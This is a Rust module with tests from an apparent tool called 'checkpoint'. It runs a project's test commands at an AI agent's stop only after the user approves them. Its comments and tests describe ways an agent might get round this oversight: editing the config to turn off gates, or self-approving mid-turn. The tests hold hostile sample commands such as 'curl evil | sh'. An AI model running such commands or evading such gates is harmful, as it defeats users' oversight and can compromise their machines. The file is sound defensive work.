//! Project trust: the gate runs a project's commands only once the user approved them.
//!
//! A project supplies commands ([`ProjectCommand`]): its test command (from `checkpoint.toml`, or
//! detected — `npm test`, `pytest`, `cargo test`, `go test` run the repository's code too), its
//! rules' own test commands and actions, and its values of the guarded settings. The user approves
//! them with `checkpoint trust` (or `checkpoint install <agent>` in the project); the approval is
//! kept in `trust.json` beside the user config file, never in the repository, keyed by the
//! project's canonical root and holding the exact commands approved.
//!
//! At a stop, [`Trust::check`] compares what the project supplies now with what was approved:
//!
//! - **untrusted** (nothing approved): the gate runs none of the project's commands, and still
//!   applies the checks that run nothing (the commit gate, the rules' actions);
//! - **changed** (the agent edited `checkpoint.toml`, a pull brought a new one): the gate runs the
//!   last approved command of each slot and nothing new;
//! - either way the user, not the model, is told what is not approved and how to approve it.
//!
//! The project file's values of the other guarded settings (`stop.commit_gate`,
//! `stop.max_blocks`, `tests.timeout`) are held back the same way, so that an agent cannot switch
//! a gate off by editing the file: one that is not approved gives way to the value approved for
//! its key, or, when none was, to what the layers under the project file give (the user's file,
//! the built-in default); the notice names each value held back. Rules' actions run nothing: they
//! apply as the project states them, and are approved so that a change to them is shown to the
//! user. Commands and values of the user's own config file and of `CHECKPOINT_*` variables are
//! the user's and need no approval.
//!
//! **What an approval holds** (see [`Approval`]): the commands above; the project's whole config
//! file as it was ([`ApprovedConfig`]); what each test command resolves to ([`definition`]: the
//! npm script, the make/just recipe's file, the tox/nox file, a script file it names, the runner
//! configuration); and the repository's identity ([`identity`]).
//!
//! - **Config:** after an approval, every change to `checkpoint.toml` (rules, globs, `tests`,
//!   `gate`, actions, an emptied command) is held back: the gate applies the approved text in
//!   full until the user approves the new one. A file that is now invalid, unreadable (a link to
//!   `/dev/null`) or deleted is a change like any other: the approved configuration applies, the
//!   user is told, and the gate never turns off.
//! - **Content:** when what an approved test command resolves to changed, the command does not
//!   run, and a stop that needs it is blocked (counted toward the cap like any block) until the
//!   user approves the change; the user is told what changed.
//! - **Identity:** another repository at an approved path (an approved clone deleted and another
//!   cloned in its place) runs nothing: its stops that need tests are blocked the same way. A
//!   linked worktree shares its repository's identity and approval.
//!
//! Approvals written before these were recorded (`trust.json` of an earlier version: no
//! `config`, `definitions` or `identity`) still load. Such an approval pins its commands and the
//! guarded values as before, nothing more, and the user is told once per session to run
//! `checkpoint trust` again to pin the rest. What it cannot pin it never turns off: a config file
//! that became unreadable or invalid under it gives way to no project file (the user's file and
//! the defaults, the approved commands), never to an open gate. An identity cannot differ from
//! one never recorded, so such an approval stays keyed by its path alone until it is renewed;
//! reading it as untrusted instead would stop every upgraded project's tests at once, and
//! binding it silently at a stop would let a stop, which an agent triggers, write the user's
//! approvals.
//!
//! **During a turn.** An agent runs as its user: it can run `checkpoint trust --yes` or
//! `checkpoint integrity accept --yes` from its shell as well as the user can. So an approval (or
//! an acceptance) recorded after the agent's turn began applies from the next turn on: the stop
//! that ends the turn is judged under the approval that was in force when the turn began (kept
//! in the new one as [`Approval::previous`]), and the user is told that an approval was given
//! while the agent worked. The user who approved it sees that notice once; an agent that did
//! gains nothing for the turn it is in, and its next turn begins with the user's prompt, after
//! the user was told.
//!
//! Checking costs a few bounded reads of small files (`trust.json`, the config file, what the
//! test commands resolve to, the identity), on stops only.

pub mod definition;
pub mod identity;

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use jiff::Timestamp;
use serde::{Deserialize, Serialize};

use crate::store::{self, StoreError};
use checkpoint_core::integrity::Acceptance;
use checkpoint_core::policy::config::{Key, LowerValue, ProjectCommand, set_slot};
use checkpoint_core::policy::{Policy, RuleTests};

/// The trust store's file name, beside the user config file.
pub const TRUST_FILE: &str = "trust.json";

/// The trust store: the user's approvals, one per project root.
#[derive(Debug, Clone)]
pub struct TrustStore {
    path: PathBuf,
}

/// What `trust.json` holds.
#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    /// Approvals by canonical project root.
    projects: BTreeMap<PathBuf, Approval>,
    /// Test-integrity findings the user accepted, by canonical project root (see
    /// [`checkpoint_core::integrity::Acceptance`]).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    accepted: BTreeMap<PathBuf, Acceptance>,
}

/// What the user approved for one project. The fields after `commands` are `None` in an
/// approval written by an earlier version (see the module doc for what such an approval means).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Approval {
    /// When.
    pub approved_at: Timestamp,
    /// Exactly what was approved.
    pub commands: Vec<ProjectCommand>,
    /// The project's config file as approved.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub config: Option<ApprovedConfig>,
    /// What each test command the gate ran in the project resolved to, by command.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub definitions: Option<BTreeMap<String, definition::Definition>>,
    /// The repository's identity (see [`identity`]); `None` outside git too.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub identity: Option<String>,
    /// The approvals this one replaced, oldest first, each without its own: what a turn that
    /// began before this approval is judged under (see [`Approval::in_force`]). Those of the
    /// last [`PREVIOUS_KEPT_FOR`] are kept, and the newest one before them; at most
    /// [`PREVIOUS_KEPT`] (an agent that approves again and again in one turn pushes out only its
    /// own).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub previous: Vec<Approval>,
}

/// How long an approval that was replaced is kept: a turn that long still finds what was in
/// force when it began.
pub const PREVIOUS_KEPT_FOR: std::time::Duration = std::time::Duration::from_secs(24 * 60 * 60);

/// The most approvals that were replaced kept in an approval.
pub const PREVIOUS_KEPT: usize = 64;

/// The approval a stop is judged under, and whether a newer one waits for the next turn.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InForce {
    /// The approval in force (`None`: the project was not approved when the turn began).
    pub approval: Option<Approval>,
    /// When the newer approval, recorded during the turn, was given.
    pub deferred: Option<Timestamp>,
}

/// The project's config file as the user approved it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ApprovedConfig {
    /// Its text; `None` when the project had no config file.
    pub text: Option<String>,
}

impl Approval {
    /// An approval of `commands` alone, at `now` (what an earlier version recorded).
    pub fn of_commands(commands: &[ProjectCommand], now: Timestamp) -> Approval {
        Approval {
            approved_at: now,
            commands: commands.to_vec(),
            config: None,
            definitions: None,
            identity: None,
            previous: Vec::new(),
        }
    }

    /// What applies to a turn that began at `turn_began` (`None`: no turn is known, as for a
    /// person's `checkpoint check`): this approval, or, when it was recorded after the turn
    /// began, the newest of those it replaced that was recorded before (none: the project was
    /// not approved then).
    pub fn in_force(self, turn_began: Option<Timestamp>) -> InForce {
        match turn_began {
            Some(began) if self.approved_at > began => InForce {
                deferred: Some(self.approved_at),
                approval: (self.previous.into_iter())
                    .rev()
                    .find(|earlier| earlier.approved_at <= began),
            },
            _ => InForce {
                approval: Some(self),
                deferred: None,
            },
        }
    }

    /// `self` replacing `earlier`: it keeps `earlier` and what `earlier` kept, less what is no
    /// longer needed (see [`Approval::previous`]).
    fn replacing(mut self, mut earlier: Approval) -> Approval {
        let mut previous = std::mem::take(&mut earlier.previous);
        if previous.len() < PREVIOUS_KEPT {
            previous.push(earlier);
        }
        let window = jiff::SignedDuration::try_from(PREVIOUS_KEPT_FOR).unwrap_or_default();
        let since = self
            .approved_at
            .checked_sub(window)
            .unwrap_or(self.approved_at);
        // The newest one recorded before the window stays: it was in force when the window began.
        let old = previous.iter().filter(|a| a.approved_at <= since).count();
        previous.drain(..old.saturating_sub(1));
        self.previous = previous;
        self
    }

    /// Whether it was written by an earlier version and pins only the commands.
    pub fn is_legacy(&self) -> bool {
        self.config.is_none()
    }
}

impl TrustStore {
    /// The store beside the user config file; `None` without a config directory.
    pub fn beside_user_config(user_config: Option<&Path>) -> Option<TrustStore> {
        Some(TrustStore {
            path: user_config?.parent()?.join(TRUST_FILE),
        })
    }

    /// The store's file.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// What was approved for the project at `root`, if anything.
    pub fn approval(&self, root: &Path) -> Result<Option<Approval>, StoreError> {
        let file: Option<TrustFile> = store::read_json(&self.path)?;
        Ok(file.and_then(|mut file| file.projects.remove(&canonical(root))))
    }

    /// Records `approval` for the project at `root`, replacing an earlier approval, which it
    /// keeps among its [`Approval::previous`].
    pub fn approve(&self, root: &Path, approval: Approval) -> Result<(), StoreError> {
        store::update_json(&self.path, |file: &mut TrustFile| {
            let key = canonical(root);
            let approval = match file.projects.remove(&key) {
                Some(earlier) => approval.replacing(earlier),
                None => approval,
            };
            file.projects.insert(key, approval);
        })
    }

    /// Withdraws the approval of the project at `root`; whether there was one.
    pub fn revoke(&self, root: &Path) -> Result<bool, StoreError> {
        store::update_json(&self.path, |file: &mut TrustFile| {
            file.projects.remove(&canonical(root)).is_some()
        })
    }

    /// Deletes the store's file when it holds no approval and no acceptance; whether it did.
    pub fn remove_if_empty(&self) -> Result<bool, StoreError> {
        store::remove_json(&self.path, |file: &TrustFile| {
            file.projects.is_empty() && file.accepted.is_empty()
        })
    }

    /// The test-integrity findings the user accepted for the project at `root`, if any.
    pub fn acceptance(&self, root: &Path) -> Result<Option<Acceptance>, StoreError> {
        let file: Option<TrustFile> = store::read_json(&self.path)?;
        Ok(file.and_then(|mut file| file.accepted.remove(&canonical(root))))
    }

    /// Records `acceptance` for the project at `root`, replacing an earlier one.
    pub fn accept(&self, root: &Path, acceptance: Acceptance) -> Result<(), StoreError> {
        store::update_json(&self.path, |file: &mut TrustFile| {
            file.accepted.insert(canonical(root), acceptance);
        })
    }

    /// Every approval, by project root.
    pub fn list(&self) -> Result<BTreeMap<PathBuf, Approval>, StoreError> {
        let file: Option<TrustFile> = store::read_json(&self.path)?;
        Ok(file.unwrap_or_default().projects)
    }
}

/// The key of the project at `root`: its canonical path (symlinks resolved), else `root`.
fn canonical(root: &Path) -> PathBuf {
    root.canonicalize().unwrap_or_else(|_| root.to_owned())
}

/// How what a project supplies now compares with what the user approved.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Trust {
    /// The project supplies nothing to approve, or exactly what was approved.
    Trusted,
    /// Nothing was approved for the project; these are what it supplies.
    Untrusted(Vec<ProjectCommand>),
    /// Some of what the project supplies differs from the approval.
    Changed {
        /// Supplied now and not approved (new, or a slot's new text).
        new: Vec<ProjectCommand>,
        /// Approved and no longer supplied.
        gone: Vec<ProjectCommand>,
    },
}

impl Trust {
    /// Compares the project's `current` commands with its `approval`. `user_slots` are the
    /// guarded keys the user's own `CHECKPOINT_*` variables set (see
    /// [`Effective::user_slots`](checkpoint_core::policy::config::Effective::user_slots)): the
    /// project supplies nothing there, and an approved value of one of them that it no longer
    /// shows is the user's choice, not a change.
    pub fn check(
        current: &[ProjectCommand],
        approval: Option<&Approval>,
        user_slots: &[String],
    ) -> Trust {
        let Some(approval) = approval else {
            return if current.is_empty() {
                Trust::Trusted
            } else {
                Trust::Untrusted(current.to_vec())
            };
        };
        let missing = |from: &[ProjectCommand], within: &[ProjectCommand]| -> Vec<ProjectCommand> {
            (from.iter())
                .filter(|c| !within.contains(c))
                .cloned()
                .collect()
        };
        let new = missing(current, &approval.commands);
        let mut gone = missing(&approval.commands, current);
        gone.retain(|c| !user_slots.contains(&c.slot));
        if new.is_empty() && gone.is_empty() {
            Trust::Trusted
        } else {
            Trust::Changed { new, gone }
        }
    }

    /// Makes `policy` act only on what was approved, and returns what it holds back. A command
    /// supplied and not approved is replaced by the command approved for its slot, or by none; a
    /// guarded setting's value (the test command's too) by the value approved for its key, or by
    /// the key's [`LowerValue`] from `lower`. `approval` is what [`Trust::check`] was given.
    pub fn restrict(
        &self,
        policy: &mut Policy,
        approval: Option<&Approval>,
        lower: &[LowerValue],
    ) -> Vec<Held> {
        let unapproved = match self {
            Trust::Trusted => return Vec::new(),
            Trust::Untrusted(commands) => commands,
            Trust::Changed { new, .. } => new,
        };
        let approved = |slot: &str| {
            (approval.into_iter())
                .flat_map(|a| &a.commands)
                .find(|a| a.slot == slot)
                .map(|a| a.text.as_str())
        };
        let mut held = Vec::new();
        for command in unapproved {
            if let Some(key) = Key::named(&command.slot).filter(|key| key.guarded) {
                let below = (lower.iter())
                    .find(|l| l.slot == command.slot)
                    .and_then(|l| l.text.as_deref());
                // The approved value, else the lower layers', else (should neither parse, e.g.
                // an approval written by another version) the built-in default: never the
                // project's.
                let default = || key.value_in(&Policy::builtin()).map(|v| v.to_string());
                let used = (approved(&command.slot).map(Some).into_iter())
                    .chain([below])
                    .map(|text| text.map(str::to_owned))
                    .chain(std::iter::once_with(default))
                    .find(|text| set_slot(policy, key, text.as_deref()).is_ok());
                held.push(Held {
                    slot: command.slot.clone(),
                    used: used.flatten(),
                });
                continue;
            }
            let Some(rule) = command.slot.strip_prefix("rule.") else {
                continue;
            };
            if let Some(name) = rule.strip_suffix(".tests") {
                let approved = approved(&command.slot).map(str::to_owned);
                let tests = approved.map_or(RuleTests::None, RuleTests::Command);
                policy.rules.set_tests(name, tests);
            }
            // A rule's action is an instruction to the model: the project's words reach it only
            // once approved.
            if let Some(name) = rule.strip_suffix(".action") {
                let approved = approved(&command.slot).map(str::to_owned);
                policy.rules.set_action(name, approved);
            }
        }
        // A project test command held back with nothing approved in its place: say so, rather
        // than that there is none.
        policy.tests.awaiting_approval =
            policy.tests.command.is_none() && held.iter().any(|h| h.slot == "tests.command");
        held
    }

    /// What differs from the approval, one line each (`new: tests.command: …`, `no longer: …`);
    /// for an untrusted project, everything it supplies.
    pub fn changes(&self) -> Vec<String> {
        let line = |prefix: &str, c: &ProjectCommand| format!("{prefix}{}: {}", c.slot, c.text);
        match self {
            Trust::Trusted => Vec::new(),
            Trust::Untrusted(commands) => commands.iter().map(|c| line("", c)).collect(),
            Trust::Changed { new, gone } => (new.iter().map(|c| line("new: ", c)))
                .chain(gone.iter().map(|c| line("no longer: ", c)))
                .collect(),
        }
    }

    /// What the user is told, or `None` when all is approved: what is not approved, with the
    /// value used instead of each guarded setting `held` back (see [`Trust::restrict`]). `root`
    /// is the project's.
    pub fn notice(&self, root: &Path, held: &[Held]) -> Option<String> {
        let how = format!(
            "To approve, run `checkpoint trust` in {} (it shows what would run).",
            root.display()
        );
        let mut text = String::new();
        match self {
            Trust::Trusted => return None,
            Trust::Untrusted(commands) => {
                text.push_str(
                    "Checkpoint: this project's commands are not approved, so the stop gate ran \
                     none of them and showed the model none of its actions (the commit gate \
                     still applies):",
                );
                list(&mut text, "", commands, held);
            }
            Trust::Changed { new, gone } => {
                text.push_str(
                    "Checkpoint: this project's commands changed since you approved them; the \
                     stop gate still runs the approved ones.",
                );
                list(&mut text, "new: ", new, held);
                list(&mut text, "no longer: ", gone, &[]);
            }
        }
        text.push('\n');
        text.push_str(&how);
        Some(text)
    }
}

/// A guarded setting's value the project supplies and the gate does not apply (see
/// [`Trust::restrict`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Held {
    /// The key: `stop.commit_gate`.
    pub slot: String,
    /// The value applied instead, as a [`ProjectCommand`]'s text; `None` when the key is unset.
    pub used: Option<String>,
}

/// Appends one line per command: `- <prefix><slot>: <text>`, and for a setting's value `held`
/// back, what the gate uses instead. (The test command is a command: the notice's first line
/// says what runs instead.)
fn list(text: &mut String, prefix: &str, commands: &[ProjectCommand], held: &[Held]) {
    for command in commands {
        let _ = write!(text, "\n- {prefix}{}: {}", command.slot, command.text);
        let held = held.iter().find(|h| h.slot == command.slot);
        if let Some(held) = held.filter(|_| !command.runs()) {
            let used = held.used.as_deref().unwrap_or("nothing");
            let _ = write!(text, " (held back: the gate uses {used})");
        }
    }
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use checkpoint_core::policy::Rule;

    use super::*;

    fn command(slot: &str, text: &str) -> ProjectCommand {
        ProjectCommand {
            slot: slot.into(),
            text: text.into(),
        }
    }

    fn approval(commands: &[ProjectCommand]) -> Approval {
        Approval::of_commands(commands, Timestamp::UNIX_EPOCH)
    }

    /// An approval of `text` as the test command at `seconds` after the epoch.
    fn at(seconds: i64, text: &str) -> Approval {
        let at = Timestamp::from_second(seconds).unwrap();
        Approval::of_commands(&[command("tests.command", text)], at)
    }

    /// `approvals` replacing each other in order, as the store records them.
    fn recorded(approvals: impl IntoIterator<Item = Approval>) -> Approval {
        (approvals.into_iter())
            .reduce(|earlier, next| next.replacing(earlier))
            .unwrap()
    }

    #[test]
    fn approvals_given_during_a_turn_apply_from_the_next_one() {
        const DAY: i64 = 24 * 60 * 60;
        let user = at(1000, "pytest");
        let began = Timestamp::from_second(2000).unwrap();
        // The agent approves its own command again and again during the turn.
        let spam = (0..PREVIOUS_KEPT as i64 * 2).map(|i| at(3000 + i, "true"));
        let now = recorded(std::iter::once(user.clone()).chain(spam));
        assert_eq!(now.previous.len(), PREVIOUS_KEPT);
        let in_force = now.clone().in_force(Some(began));
        assert_eq!(in_force.approval.map(|a| a.commands), Some(user.commands));
        assert!(in_force.deferred.is_some());
        // Outside a turn, and in a turn that began after it, the newest applies.
        assert_eq!(now.clone().in_force(None).deferred, None);
        let later = Timestamp::from_second(9000).unwrap();
        assert_eq!(now.in_force(Some(later)).deferred, None);
        // A first approval given during the turn: the turn began unapproved.
        let first = at(3000, "true").in_force(Some(began));
        assert_eq!(first.approval, None);

        // Days later, what no turn can have begun under is dropped: the newest approval before
        // the window stays.
        let old = recorded([
            at(0, "a"),
            at(10, "b"),
            at(3 * DAY, "c"),
            at(3 * DAY + 5, "d"),
        ]);
        let kept: Vec<i64> = (old.previous.iter())
            .map(|a| a.approved_at.as_second())
            .collect();
        assert_eq!(kept, [10, 3 * DAY]);
    }

    fn policy() -> Policy {
        let mut policy = Policy::builtin();
        policy.tests.command = Some("touch pwned".into());
        policy.rules = checkpoint_core::policy::RuleSet::compile(vec![Rule {
            name: "api".into(),
            include: vec!["api/**".into()],
            exclude: Vec::new(),
            tests: RuleTests::Command("make api-test".into()),
            action: Some("Restart the server".into()),
            gate: true,
        }])
        .unwrap();
        policy
    }

    fn current() -> Vec<ProjectCommand> {
        vec![
            command("tests.command", "touch pwned"),
            command("rule.api.tests", "make api-test"),
            command("rule.api.action", "Restart the server"),
        ]
    }

    #[test]
    fn an_untrusted_project_runs_none_of_its_commands() {
        let trust = Trust::check(&current(), None, &[]);
        let mut restricted = policy();
        let held = trust.restrict(&mut restricted, None, &[]);
        assert_eq!(restricted.tests.command, None);
        assert!(restricted.tests.awaiting_approval, "{restricted:?}");
        let rule = &restricted.rules.configured()[0];
        assert_eq!(rule.tests, RuleTests::None);
        // Its action is the project's words: the model sees it only once approved.
        assert_eq!(rule.action, None);
        insta::assert_snapshot!(trust.notice(Path::new("/repo"), &held).unwrap(), @r"
        Checkpoint: this project's commands are not approved, so the stop gate ran none of them and showed the model none of its actions (the commit gate still applies):
        - tests.command: touch pwned
        - rule.api.tests: make api-test
        - rule.api.action: Restart the server
        To approve, run `checkpoint trust` in /repo (it shows what would run).
        ");
    }

    #[test]
    fn nothing_to_approve_and_exact_approvals_are_trusted() {
        assert_eq!(Trust::check(&[], None, &[]), Trust::Trusted);
        let approved = approval(&current());
        let trust = Trust::check(&current(), Some(&approved), &[]);
        assert_eq!(trust, Trust::Trusted);
        let mut same = policy();
        assert_eq!(trust.restrict(&mut same, Some(&approved), &[]), []);
        assert_eq!(same.tests.command.as_deref(), Some("touch pwned"));
        assert_eq!(trust.notice(Path::new("/repo"), &[]), None);
    }

    #[test]
    fn a_changed_command_runs_the_approved_one_of_its_slot() {
        let approved = approval(&[
            command("tests.command", "python3 -m unittest -q"),
            command("rule.api.action", "Restart the server"),
            command("stop.commit_gate", "true"),
        ]);
        let trust = Trust::check(&current(), Some(&approved), &[]);
        let mut restricted = policy();
        let held = trust.restrict(&mut restricted, Some(&approved), &[]);
        assert_eq!(
            restricted.tests.command.as_deref(),
            Some("python3 -m unittest -q")
        );
        assert_eq!(restricted.rules.configured()[0].tests, RuleTests::None);
        insta::assert_snapshot!(trust.notice(Path::new("/repo"), &held).unwrap(), @r"
        Checkpoint: this project's commands changed since you approved them; the stop gate still runs the approved ones.
        - new: tests.command: touch pwned
        - new: rule.api.tests: make api-test
        - no longer: tests.command: python3 -m unittest -q
        - no longer: stop.commit_gate: true
        To approve, run `checkpoint trust` in /repo (it shows what would run).
        ");
    }

    /// The project file's `checkpoint.toml` and the user's config file, merged with `env`: what
    /// the project supplies, the lower layers' values, and the policy.
    fn layered(
        project: &str,
        user: &str,
        env: &[(&str, &str)],
    ) -> (Vec<ProjectCommand>, Vec<LowerValue>, Policy) {
        use checkpoint_core::policy::config::{ConfigFile, Effective};
        let file = Path::new("/repo/checkpoint.toml");
        let user_file = Path::new("/home/me/.config/checkpoint/config.toml");
        let files = vec![
            ConfigFile::parse(user_file, user.to_owned()).unwrap(),
            ConfigFile::parse(file, project.to_owned()).unwrap(),
        ];
        let env: Vec<(String, String)> = (env.iter())
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        let effective = Effective::merge(files, &env, |_| None).unwrap();
        let commands = effective.project_commands(file);
        let lower = effective.lower_values(file);
        (commands, lower, effective.into_policy())
    }

    #[test]
    fn guarded_values_of_the_project_file_apply_only_once_approved() {
        let project = "[tests]\ntimeout = \"1s\"\n[stop]\ncommit_gate = false\nmax_blocks = 0\n";
        let (commands, lower, policy) = layered(project, "[tests]\ntimeout = \"10m\"\n", &[]);
        // An earlier approval had `max_blocks = 5`.
        let approved = approval(&[command("stop.max_blocks", "5")]);
        let trust = Trust::check(&commands, Some(&approved), &[]);
        let mut restricted = policy.clone();
        let held = trust.restrict(&mut restricted, Some(&approved), &lower);
        // The approved value, else the user's file, else the built-in default.
        assert_eq!(restricted.stop.max_blocks, 5);
        assert_eq!(restricted.tests.timeout, Duration::from_secs(600));
        assert!(restricted.stop.commit_gate);
        insta::assert_snapshot!(trust.notice(Path::new("/repo"), &held).unwrap(), @r#"
        Checkpoint: this project's commands changed since you approved them; the stop gate still runs the approved ones.
        - new: tests.timeout: "1s" (held back: the gate uses "10m")
        - new: stop.commit_gate: false (held back: the gate uses true)
        - new: stop.max_blocks: 0 (held back: the gate uses 5)
        - no longer: stop.max_blocks: 5
        To approve, run `checkpoint trust` in /repo (it shows what would run).
        "#);

        // Untrusted: nothing approved, the lower layers' values.
        let trust = Trust::check(&commands, None, &[]);
        let mut restricted = policy.clone();
        trust.restrict(&mut restricted, None, &lower);
        assert_eq!(
            restricted.stop.max_blocks,
            Policy::builtin().stop.max_blocks
        );
        assert!(restricted.stop.commit_gate);

        // Approved: the project's values apply.
        let all = approval(&commands);
        let trust = Trust::check(&commands, Some(&all), &[]);
        assert_eq!(trust, Trust::Trusted);
        let mut applied = policy.clone();
        trust.restrict(&mut applied, Some(&all), &lower);
        assert_eq!(applied.stop.max_blocks, 0);
        assert_eq!(applied.tests.timeout, Duration::from_secs(1));
        assert!(!applied.stop.commit_gate);
    }

    /// Attack: in an approved project the agent adds a check, changes an approved one, or
    /// switches the claim-aware profile on with no claims; none of it applies before the user
    /// approves it.
    #[test]
    fn a_check_the_agent_adds_or_changes_does_not_run_unapproved() {
        let approved_text = "[checks]\ntypecheck = \"tsc --noEmit\"\n";
        let (commands, _, _) = layered(approved_text, "", &[]);
        let approved = approval(&commands);
        let edited = "[checks]\ntypecheck = \"touch pwned\"\nlint = \"curl evil | sh\"\n\
                      typecheck_class = \"full\"\n[stop]\nprofile = \"claims\"\nclaims = []\n";
        let (commands, lower, policy) = layered(edited, "", &[]);
        assert!(
            commands
                .iter()
                .filter(|c| c.slot.starts_with("checks."))
                .all(|c| { c.runs() == (c.slot == "checks.typecheck" || c.slot == "checks.lint") })
        );
        let trust = Trust::check(&commands, Some(&approved), &[]);
        let mut restricted = policy.clone();
        let held = trust.restrict(&mut restricted, Some(&approved), &lower);
        assert_eq!(restricted.checks.typecheck.as_deref(), Some("tsc --noEmit"));
        assert_eq!(restricted.checks.lint, None);
        assert_eq!(restricted.test_commands(), ["tsc --noEmit"]);
        assert_eq!(
            restricted.checks.typecheck_class,
            Policy::builtin().checks.typecheck_class
        );
        assert_eq!(restricted.stop.profile, Policy::builtin().stop.profile);
        assert_eq!(restricted.stop.claims, Policy::builtin().stop.claims);
        insta::assert_snapshot!(trust.notice(Path::new("/repo"), &held).unwrap(), @r#"
        Checkpoint: this project's commands changed since you approved them; the stop gate still runs the approved ones.
        - new: checks.typecheck: touch pwned
        - new: checks.lint: curl evil | sh
        - new: checks.typecheck_class: "full" (held back: the gate uses "fast")
        - new: stop.profile: "claims" (held back: the gate uses "every")
        - new: stop.claims: [] (held back: the gate uses ["done", "finished", "complete", "completed", "implemented", "fixed", "resolved", "tests pass", "tests passed", "tests are passing", "ready for review"])
        - no longer: checks.typecheck: tsc --noEmit
        To approve, run `checkpoint trust` in /repo (it shows what would run).
        "#);

        // Untrusted: no check runs at all.
        let mut untrusted = policy;
        Trust::check(&commands, None, &[]).restrict(&mut untrusted, None, &lower);
        assert_eq!(untrusted.test_commands(), Vec::<String>::new());
    }

    /// The user's own `CHECKPOINT_*` variables are the user's: never held back, never listed,
    /// and the project's approved values under them are not reported as changed.
    #[test]
    fn the_users_variables_always_apply() {
        let env = [("CHECKPOINT_STOP_COMMIT_GATE", "false")];
        let (commands, lower, mut policy) = layered("[stop]\ncommit_gate = true\n", "", &env);
        assert_eq!((commands, lower), (vec![], vec![]));
        Trust::check(&[], None, &[]).restrict(&mut policy, None, &[]);
        assert!(!policy.stop.commit_gate);

        // Approved without the variable, judged with it: the project's command is still the
        // approved one, the user's runs, and nothing is reported.
        let project = "[tests]\ncommand = \"make test\"\n";
        let (approved, _, _) = layered(project, "", &[]);
        let approval = approval(&approved);
        let env = [("CHECKPOINT_TESTS_COMMAND", "make quick")];
        let (commands, lower, policy) = layered(project, "", &env);
        let users = vec!["tests.command".to_owned()];
        let trust = Trust::check(&commands, Some(&approval), &users);
        assert_eq!(trust, Trust::Trusted);
        let mut applied = policy.clone();
        assert_eq!(trust.restrict(&mut applied, Some(&approval), &lower), []);
        assert_eq!(applied.tests.command.as_deref(), Some("make quick"));
        // Only the user's slots: another approved value the project dropped is still a change.
        let trust = Trust::check(&[], Some(&approval), &["stop.max_blocks".to_owned()]);
        assert_eq!(
            trust,
            Trust::Changed {
                new: vec![],
                gone: approved
            }
        );
    }

    #[test]
    fn approvals_are_kept_by_canonical_root() {
        let config = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let link = config.path().join("link");
        std::os::unix::fs::symlink(project.path(), &link).unwrap();
        let store = TrustStore::beside_user_config(Some(&config.path().join("config.toml")));
        let store = store.unwrap();
        assert_eq!(store.approval(project.path()).unwrap(), None);
        store.approve(&link, approval(&current())).unwrap();
        assert_eq!(
            store.approval(project.path()).unwrap(),
            Some(approval(&current()))
        );
        let roots: Vec<PathBuf> = store.list().unwrap().into_keys().collect();
        assert_eq!(roots, [project.path().canonicalize().unwrap()]);
        assert!(store.revoke(project.path()).unwrap());
        assert!(!store.revoke(project.path()).unwrap());
        assert_eq!(store.approval(&link).unwrap(), None);
    }
}
